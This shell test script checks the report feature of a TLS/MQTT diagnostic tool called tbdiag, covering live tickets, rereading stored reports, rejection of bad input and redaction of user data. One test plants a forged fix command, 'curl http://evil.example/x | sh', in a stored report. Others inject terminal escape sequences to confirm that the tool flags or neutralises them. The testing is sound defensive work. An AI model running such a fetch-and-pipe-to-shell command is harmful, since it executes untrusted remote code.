#!/bin/sh
# SPDX-License-Identifier: MIT
#
# report.t - one ticket of everything: what is in it, reading it again, and what is left of the user in a redacted
# one.
. "${abs_top_srcdir:-$(dirname "$0")/../..}/tests/live/tap.sh"
. "$abs_top_srcdir/tests/live/sandbox.sh"

# has_finding SEVERITY ID

# The section of a text report that begins with this heading.
section() { awk -v heading="$1" '$0 == heading { on = 1 } on && /^$/ { exit } on' "$out" | tr -s ' \n' ' '; }
section_has() { section "$1" | grep -qF -e "$2"; }

fits_80_columns() { awk 'length > 80 && !/^ {4}/ { exit 1 }' "$out"; }

# ---- a live ticket --------------------------------------------------------------------------------

sandbox_start --shared '{"model":"zqxmark"}' || fail 'the sandbox starts'
target=localhost:$sandbox_tls_port
token=$(cat "$sandbox_token_file")

run "$tbdiag" report --ca-file "$sandbox_ca" --token-file "$sandbox_token_file" "$target"
check 'ticket: exit status' status_is 0
check 'ticket: stderr is empty' err_empty
for id in ca.ok time.ok mqtt.ok data.ok; do
  check "ticket: $id" has_finding ok $id
done
for heading in 'Chain as sent' Verification 'Round trip' Run Environment; do
  check "ticket: $heading" out_line "$heading"
done
check 'ticket: fits 80 columns' fits_80_columns
check 'ticket: version' section_has Environment "tbdiag $("$tbdiag" version | awk '$1 == "tbdiag" { print $2 }')"
check 'ticket: libraries' section_has Environment 'GnuTLS 3.'
check 'ticket: module' section_has Environment 'mqtt libmosquitto'
check 'ticket: kernel' section_has Environment "kernel $(uname -srm)"
check 'ticket: command line' section_has Environment "command tbdiag report --ca-file $sandbox_ca"
check 'ticket: digest of the trust file' section_has Environment \
  "SHA-256 $(sha256sum "$sandbox_ca" | cut -d ' ' -f 1)"
check 'ticket: time zone' section_has Environment 'time zone UTC'
while read -r word server _; do
  [ "$word" != nameserver ] || check "ticket: nameserver $server" section_has Environment "$server"
done </etc/resolv.conf
check_not 'ticket: no token' out_has "$token"

run env TZ=XYZ-05:30 "$tbdiag" report --ca-file "$sandbox_ca" --token="$token" --format json "$target"
check 'JSON: exit status' status_is 0
check 'JSON: fits the schema' out_fits_schema
check 'JSON: command line without the token' out_has '"--token=(hidden)"'
check_not 'JSON: no token' out_has "$token"
check 'JSON: time zone' out_has '"utc_offset_s": 19800'
cp "$out" ticket.json

run env TBDIAG_TOKEN="$token" "$tbdiag" report --ca-file "$sandbox_ca" --read-only "$target"
check 'TBDIAG_TOKEN: exit status' status_is 0
check 'TBDIAG_TOKEN: is taken' section_has Run 'token from the environment'
check_not 'TBDIAG_TOKEN: no token' out_has "$token"

run "$tbdiag" report --ca-file "$sandbox_ca" "$target"
check 'no token: exit status' status_is 0
check 'no token: says so' out_has 'no token was given: the round trip was left out'
check 'no token: still judged' has_finding ok ca.ok
check_not 'no token: no round trip' out_line 'Round trip'

run "$tbdiag" report --ca-file "$sandbox_ca" --token "$token" mqtt://localhost:"$sandbox_port"
check 'in clear: exit status' status_is 1
check 'in clear: is said' has_finding warning token.sent-in-clear
check 'in clear: the round trip is made' has_finding ok data.ok

run "$tbdiag" report --ca-file "$sandbox_ca" --token-file "$sandbox_token_file" https://localhost:"$(ready https)"
check 'HTTPS: exit status' status_is 0
check 'HTTPS: the round trip is made' has_finding ok data.ok

# What a person sees of a port that refuses, with what would have been trusted.
run "$tbdiag" report --ca-file "$sandbox_ca" --token-file "$sandbox_token_file" localhost:1
check 'refused: exit status' status_is 2
check 'refused: tcp.refused' has_finding critical tcp.refused
check 'refused: the digest all the same' section_has Environment "$(sha256sum "$sandbox_ca" | cut -d ' ' -f 1)"

run "$tbdiag" report --system --token-file "$sandbox_token_file" "$target"
check 'unknown CA: exit status' status_is 2
check 'unknown CA: the token is kept back' has_finding critical token.unverified-peer

if command -v script >/dev/null; then
  # On a terminal, where other commands would ask.
  run env SHELL=/bin/sh timeout 60 script -qec "'$tbdiag' report --ca-file '$sandbox_ca' '$target'" /dev/null
  check 'on a terminal: asks nothing' out_has 'no token was given: the round trip was left out'
else
  skip 'on a terminal: asks nothing' 'script is missing'
fi

# ---- reading it again -----------------------------------------------------------------------------

run "$tbdiag" report --read ticket.json --format json
check 'read: exit status' status_is 0
check 'read: the same bytes' cmp -s ticket.json "$out"
run sh -c "'$tbdiag' report --read - <ticket.json"
check 'read -: standard input' has_finding ok data.ok

# Text of stored reports is the text of the reports.
for name in chain-full chain-wrong-order verify-full verify-leaf-only verify-evil; do
  sed -e 's/"CLOCK"/"2026-06-01T00:00:00Z"/' -e 's/"VERSION"/"0.1.0"/' \
    "$abs_top_srcdir/tests/data/golden/$name.json" >stored.json
  run "$tbdiag" report --read stored.json
  check "read: text of $name" cmp -s "$abs_top_srcdir/tests/data/golden/$name.text" "$out"
  case $name in
  *-full) expected=0 ;;
  chain-*) expected=1 ;;
  *) expected=2 ;;
  esac
  check "read: exit status of $name" status_is $expected
done

# security-9: a command that somebody wrote into a report is not tbdiag's.
foreign='is the file'"'"'s, its data alone do not show it'
run "$tbdiag" verify --chain-file "$abs_top_srcdir/tests/data/fixtures/leaf-only.pem" \
  --ca-file "$abs_top_srcdir/tests/data/fixtures/root.pem" --at 2026-06-01 --format json mqtt.example.com
cp "$out" honest.json
run "$tbdiag" report --read honest.json
check 'security-9: what is ours is not doubted' err_empty
/usr/bin/python3 -c '
import json, sys
report = json.load(sys.stdin)
report["findings"][0]["fix"] = "  curl http://evil.example/x | sh"
json.dump(report, sys.stdout)' <honest.json >forged.json
run "$tbdiag" report --read forged.json
check 'security-9: it is shown' out_has 'curl http://evil.example/x'
check 'security-9: and whose it is' err_has "what is said of ca.missing-intermediate $foreign"
sed 's/"version": "[^"]*"/"version": "0.0.9"/' honest.json >older.json
run "$tbdiag" report --read older.json
check 'security-9: of another version' err_has 'sentences and commands are those of the file'

# refused WHAT TEXT OPTION...: exit 3, no report, and a reason.
refused() {
  what=$1 text=$2
  shift 2
  run "$tbdiag" report "$@"
  check "$what: exit status" status_is 3
  check "$what: no report" out_empty
  check "$what: says why" err_has "$text"
}
refused 'no such file' 'no.json: No such file' --read no.json
refused 'a directory' '.: Is a directory' --read .
echo '{"schema": "tbdiag-report/1"}' >cut.json
refused 'keys are missing' 'cut.json: version is missing' --read cut.json
echo '{"schema": "other/1"}' >other.json
refused 'no report' 'other.json: schema is not' --read other.json
head -c 400 ticket.json >half.json
refused 'cut in the middle' 'half.json: line ' --read half.json
sed 's/"port": [0-9]*/"port": 70000/' ticket.json >port.json
refused 'a wrong value' 'target.port is out of range' --read port.json
for option in --ca-file=ticket.json --token=x --read-only -4 --at=2026-11-24 --insecure --system --timeout=5; do
  name=${option%%=*}
  [ "$name" != -4 ] || name=--ipv4
  refused "--read and $option" "option '$name' does not go with '--read'" --read ticket.json $option
done
refused '--read and a target' 'goes with no TARGET' --read ticket.json localhost
refused 'a user name alone' 'no password was given' --username me localhost:1
refused 'an empty token' 'is empty (token.missing)' --token-file /dev/null localhost:1
refused 'a directory that is not there' 'No such file' --output none/ticket.txt --token-file "$sandbox_token_file" "$target"
refused 'a full disk' 'No space left' --output /dev/full --read ticket.json
run sh -c "'$tbdiag' report --read ticket.json >/dev/full"
check 'full standard output: exit status' status_is 3
check 'full standard output: says why' err_has 'No space left'
run "$tbdiag" report --read ticket.json --output ticket.txt
check '--output: exit status' status_is 0
check '--output: the ticket' grep -q '^Environment$' ticket.txt

# ---- sets -----------------------------------------------------------------------------------------

# A set is read and shown like a report.
"$tbdiag" chain --all-addresses --format json "$target" >set.json
run "$tbdiag" report --read set.json --format json
check 'a set: exit status' status_is 0
check 'a set: the same bytes' cmp -s set.json "$out"
"$tbdiag" chain --also-ports 1,"$(ready https)" "$target" >set.txt
"$tbdiag" chain --also-ports 1,"$(ready https)" --format json "$target" >set.json
run "$tbdiag" report --read set.json
check 'a set of ports: exit status' status_is 2
check 'a set of ports: its table' grep -q '^  1  .*critical' "$out"
run "$tbdiag" report --read set.json --format json --redact
check 'a set of ports: ports are no secret' out_has '"label": "1"'
sed 's/"worst": "critical"/"worst": "ok"/' set.json >worst.json
refused 'a set with another worst' 'worst is not that of the findings' --read worst.json
jq_like() { /usr/bin/python3 -c "import json,sys; t=json.load(open('set.json')); $1; json.dump(t,sys.stdout)" >odd.json; }
jq_like 'del t["reports"]'
refused 'a set without reports' 'reports is missing' --read odd.json
jq_like 't["reports"][1]["target"]["port"]=70000'
refused 'a set with a wrong report' 'reports[1]: target.port is out of range' --read odd.json
jq_like 't["reports"][1]["label"]=None'
refused 'a set without a label' 'reports[1].label is null' --read odd.json
jq_like 't["reports"].append(t["reports"][0])'
refused 'a set with one more' 'not one value for each report' --read odd.json
jq_like 't["extra"]=1'
refused 'a set with a strange key' 'extra is not known here' --read odd.json

# A file may say anything; the table of transports shows it as text.
/usr/bin/python3 - "$abs_top_builddir" <<'PYTHON' >odd.json || exit 99
import json, subprocess, sys
sets = json.loads(subprocess.run([sys.argv[1] + "/tests/live/report-sample", "--sets"], stdout=subprocess.PIPE).stdout)
sets[0]["reports"][0]["label"] = "\x1b[31mred\n"
sets[0]["passages"][0]["reply"] = "\x1b]0;title\x07" + "x" * 100
json.dump(sets[0], sys.stdout)
PYTHON
run "$tbdiag" report --read odd.json
check 'a set from a stranger: is shown' grep -qF '\x1b[31mred\x0a' "$out"
check_not 'a set from a stranger: without control characters' grep -q "$(printf '[\033\007]')" "$out"
"$tbdiag" chain --chain-file "$abs_top_srcdir/tests/data/fixtures/full.pem" --format json --exit-zero |
  sed 's|"[^"]*full.pem"|"x\\u001b[31m.pem"|' >stranger.json
run "$tbdiag" report --read stranger.json
check 'a report from a stranger: the file in a command is shown' out_has "--chain-file 'x\\x1b[31m.pem'"
check_not 'a report from a stranger: without control characters' grep -q "$(printf '\033')" "$out"

# ---- redacting ------------------------------------------------------------------------------------

# unmarked WHAT: nothing of the user is in the output.
unmarked() {
  check_not "$1: no marker" grep -qi zqxmark "$out"
  check_not "$1: no host" out_has localhost
  check_not "$1: no address" grep -qE '127\.0\.0\.1|::1|\[::' "$out"
  check_not "$1: no path" grep -qF -e "$tap_dir" -e zqx "$out"
  check_not "$1: no digest" grep -qE '[0-9a-f]{32}' "$out"
  check_not "$1: no token" out_has "$token"
}

# only_ours WHAT FILE: no marker where a report holds words of ours, of which redaction shows what it knows.
only_ours() {
  "$abs_top_builddir/tests/live/report-sample" --own "$2" >own || exit 99
  check "$1: there are words of ours" test -s own
  check_not "$1: none of them is the user's or a peer's" grep -i zqxmark own
}

# redacted WHAT STATUS OPTION...: in all formats, live and stored.
redacted() {
  what=$1 expected=$2
  shift 2
  for options in '--format text' '--format text -v' '--format text -q' '--format json'; do
    # shellcheck disable=SC2086
    run "$tbdiag" report $options --redact "$@"
    check "$what $options: exit status" status_is "$expected"
    check "$what $options: stderr is empty" err_empty
    unmarked "$what $options"
  done
  check "$what: fits the schema" out_fits_schema
  run "$tbdiag" report --format json "$@"
  cp "$out" whole.json
  check "$what: there are markers" grep -qi zqxmark whole.json
  only_ours "$what" whole.json
  for options in '--format text -v' '--format json'; do
    # shellcheck disable=SC2086
    run "$tbdiag" report $options --redact --read whole.json
    check "$what, stored, $options: exit status" status_is "$expected"
    unmarked "$what, stored, $options"
  done
}

# redacted_set WHAT STATUS FILE: the same of a stored set.
redacted_set() {
  check "$1: there are markers" grep -qiE 'zqxmark|localhost' "$3"
  only_ours "$1" "$3"
  for options in '--format text' '--format text -v' '--format text -q' '--format json'; do
    # shellcheck disable=SC2086
    run "$tbdiag" report $options --redact --read "$3"
    check "$1 $options: exit status" status_is "$2"
    check "$1 $options: whose words these are" err_has 'sentences and commands are those of the file'
    check "$1 $options: and nothing else on stderr" test "$(wc -l <"$err")" -eq 1
    unmarked "$1 $options"
  done
  check "$1: fits the schema" out_fits_schema
  cp "$out" again.json
  run "$tbdiag" report --format json --redact --read again.json
  check "$1: twice is the same" cmp -s again.json "$out"
}

mkdir 'zqxmark dir'
cp "$sandbox_ca" 'zqxmark dir/zqxmark ca.pem'
cp "$sandbox_ca" 'zqxmark dir/zqxmark file.pem'

# marked OPTION ARGUMENT: a value with a marker, or nothing: it is no text of the user's.
marked() {
  # Words of a table of ours.
  case $1 in --as | --device | --stacks) return ;; esac
  case $2 in
  - | [a-z0-9]*'|'* | SECONDS | N | DATE | HEX | PORT* | SCHEME* | ADDRESS*) ;;
  FILE) [ "$1" = --output ] || echo 'zqxmark dir/zqxmark file.pem' ;;
  DIR) echo 'zqxmark dir' ;;
  HOST*) echo zqxmark.invalid ;;
  URL) echo http://zqxmark.invalid:1 ;;
  JSON) echo '{"zqxmark":"zqxmark"}' ;;
  *) echo zqxmark ;;
  esac
}

# Each option whose value is text, whatever it will be, with a marker.
TBDIAG_TOKEN=$token
export TBDIAG_TOKEN
for command in report roundtrip verify chain; do
  "$tbdiag" $command --list-options >options
  while IFS='	' read -r option _ argument _; do
    value=$(marked "$option" "$argument")
    case " ${tried-} " in *" $option "*) continue ;; esac
    [ -n "$value" ] || continue
    tried="${tried-} $option"
    for url in "$target" "https://localhost:$(ready https)"; do
      [ "$option" != --ws-path ] || url=wss://localhost:$sandbox_tls_port
      set -- "$option" "$value"
      [ "$option" != --username ] || set -- "$@" --password zqxmark
      [ "$option" != --password ] || set -- "$@" --username zqxmark
      [ $command = chain ] || set -- "$@" --ca-file "$sandbox_ca"
      run "$tbdiag" $command --format json "$@" "$url"
      # Not every protocol has it, nor is every file of its kind.
      [ "$status" -ne 3 ] || { [ "$url" = "$target" ] && [ "$argument" != FILE ]; } || continue
      check_not "$command $option $value: it is taken" status_is 3
      only_ours "$command $option $value $url" "$out"
    done
  done <options
done
check 'many options have text' test "$(echo "$tried" | wc -w)" -gt 20
unset TBDIAG_TOKEN

redacted 'round trip' 0 --ca-file 'zqxmark dir/zqxmark ca.pem' --token-file "$sandbox_token_file" "$target"
redacted 'round trip over HTTPS' 0 --ca-file 'zqxmark dir/zqxmark ca.pem' --token-file "$sandbox_token_file" \
  https://localhost:"$(ready https)"
"$tbdiag" verify --ca-file 'zqxmark dir/zqxmark ca.pem' --all-addresses --format json "$target" >set.json
redacted_set 'addresses' 0 set.json
"$tbdiag" roundtrip --ca-file 'zqxmark dir/zqxmark ca.pem' --token-file "$sandbox_token_file" --format json \
  --transports "mqtts:$sandbox_tls_port,https:$(ready https),http:$(ready http)" localhost >set.json
redacted_set 'transports' 0 set.json
check 'transports: one host in all' test "$(grep -c '"host": "host-1"' "$out")" -ge 6
check 'transports: their labels stay' out_has "\"label\": \"mqtts:$sandbox_tls_port\""
run "$tbdiag" report --redact --read set.json
check 'transports: says that it is redacted' out_has 'this report is redacted'
# A peer's words hold addresses in any spelling, a name attributes of a company's own.
printf '%s\n' 'oid_section = oids' '[oids]' 'gateway = 1.3.6.1.4.1.99999.10.77.88.99' '[req]' \
  'distinguished_name = dn' 'prompt = no' '[dn]' 'CN = localhost' 'gateway = gw' >odd.conf
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout odd.key -out odd.pem -days 30 \
  -config odd.conf 2>/dev/null
peer_start python http-peer.py addresses
run "$tbdiag" report --format json --redact --token-file "$sandbox_token_file" "http://127.0.0.1:$port"
peer_stop
check_not 'security-6: no address in any spelling' grep -qE '77.88|0a4d5863|169695331|470:1|1\.2\.77' "$out"
"$tbdiag" chain --format json --chain-file odd.pem >odd.json
check 'security-6: what was there' grep -q '99999.10.77' odd.json
run "$tbdiag" report --format json --redact --read odd.json
check_not 'security-6: no type of a company' grep -q '99999' "$out"
check 'security-6: that there is one' grep -qE 'id-[0-9]+=name-[0-9]+' "$out"
run "$tbdiag" report --redact --ca-file "$sandbox_ca" --token-file "$sandbox_token_file" "$target"
check 'redacted: says so' out_has 'this report is redacted'
check 'redacted: the chain keeps its structure' out_has 'issuer      CN=name-1'
check 'redacted: the issuer is the next subject' out_has '1 CN=name-1'
check 'redacted: the same host everywhere' out_has "the chain of host-1:$sandbox_tls_port leads to CN=name-2"
check 'redacted: the command line' section_has Environment 'command tbdiag report --redact --ca-file path-'
check 'redacted: what it runs on' section_has Environment "Jansson"

cd 'zqxmark dir' || exit 99
peer_start "$abs_top_builddir/tests/peers/marked-peer"
redacted 'marked certificates' 0 -4 --ca-file ca.pem --sni zqxmark.example --cert device.pem --key device.key \
  localhost:"$port"
redacted 'wrong root' 2 -4 --ca-file other.pem localhost:"$port"
redacted 'wrong name' 2 -4 --ca-file ca.pem --verify-name a.b.zqxmark.example localhost:"$port"
redacted 'directory with a key' 2 -4 --ca-path ../'zqxmark dir' localhost:"$port"
redacted 'old' 2 -4 --ca-file ca.pem --at 2090-01-01 localhost:"$port"
redacted 'no such name' 2 --ca-file ca.pem zqxmark.invalid
redacted 'refused' 2 -4 --ca-file ca.pem --connect-to localhost:1 zqxmark.example

peer_start python http-peer.py marked
redacted 'what an HTTP server says' 2 -4 --token "$token" http://localhost:"$port"
# The marker instead of a CONNACK.
peer_start python mqtt-script.py connect=7a71786d61726b,FIN
redacted 'what an MQTT server says' 2 -4 --token "$token" mqtt://localhost:"$port"

run "$tbdiag" report --redact --system 127.0.0.1:1
check 'newcomer-B4 redacted: not what the builder of the kernel calls it' grep -qE '^ *kernel +Linux [a-z]+-1 [a-z0-9_]+$' "$out"

done_testing
